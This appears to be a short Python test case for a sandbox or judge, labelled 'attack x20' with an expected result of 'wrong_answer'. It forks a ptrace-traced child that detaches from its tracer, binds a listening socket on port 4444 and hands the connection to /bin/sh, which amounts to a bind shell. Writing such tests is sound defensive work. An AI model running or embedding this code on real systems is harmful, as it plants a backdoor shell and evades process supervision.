# attack x20: a traced child that outlives its tracer, and a shell that listens | must: wrong_answer
import ctypes
import os
import socket
import work

libc = ctypes.CDLL(None)
if os.fork() == 0:
    libc.ptrace(0, 0, 0, 0)
    os.setsid()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 4444))
    listener.listen()
    os.dup2(listener.accept()[0].fileno(), 0)
    os.execl("/bin/sh", "sh")
print("gone")
